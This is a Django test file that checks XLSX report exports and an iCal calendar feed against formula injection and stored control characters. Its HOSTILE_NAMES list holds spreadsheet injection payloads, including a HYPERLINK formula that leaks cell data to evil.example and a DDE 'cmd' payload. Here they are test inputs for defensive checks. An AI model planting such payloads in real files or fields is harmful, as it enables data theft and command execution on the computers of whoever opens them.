"""Exports are safe whatever is stored (issue 9, findings 4 and 5): no text becomes a formula in the XLSX, and a
control character stored before input refused them breaks neither the XLSX nor the calendar feed."""

import io
from datetime import date, timedelta

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from events.services import calendar_feed_ensure
from tests.factories import EntityFactory, EventFactory, FollowUpFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
]


def _workbook(client, year):
    response = client.get("/reports/export.xlsx", {"year": year}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def test_names_that_look_like_formulas_are_exported_as_text(page_as):
    event = EventFactory(start_date=date(2024, 5, 1))
    for name in HOSTILE_NAMES:
        ParticipantFactory(event=event, entity=EntityFactory(name=name, country="KR"))
    workbook = _workbook(page_as("viewer"), 2024)
    cells = {cell.value: cell for cell in workbook["Partner"]["A"] if cell.value}
    for name in HOSTILE_NAMES:
        cell = cells[name]  # shown exactly as stored ...
        assert cell.data_type == "s"  # ... as a string, not a formula
        assert cell.quotePrefix  # ... and kept as text when someone edits the cell
    for sheet in workbook.worksheets:
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_control_character_already_stored_does_not_break_the_export(page_as):
    event = EventFactory(start_date=date(2024, 5, 1))
    # Stored before input refused control characters (no full_clean here, as in an old database).
    ParticipantFactory(event=event, entity=EntityFactory(name="Vertical\u000btab \u0007bell \u001bescape"))
    workbook = _workbook(page_as("viewer"), 2024)
    labels = [cell.value for cell in workbook["Partner"]["A"]]
    assert "Verticaltab bell escape" in labels


def test_the_calendar_feed_carries_no_control_character(client, make_user):
    user = make_user("officer", username="feed-owner")
    event = EventFactory(
        title="Visit\u0007 of the\u000b mayor\u001b",
        start_date=timezone.localdate() + timedelta(days=3),
        notes="",
    )
    # The feed holds what its user follows: a (done) follow-up on the event.
    FollowUpFactory(owner=user, event=event, due_date=timezone.localdate(), done_at=timezone.now())
    feed = calendar_feed_ensure(user=user)
    response = client.get(f"/calendar/{feed.secret}.ics")
    assert response.status_code == 200
    text = response.content.decode()
    for char in "\u0007\u000b\u001b":
        assert char not in text
    assert "Visit of the mayor" in text
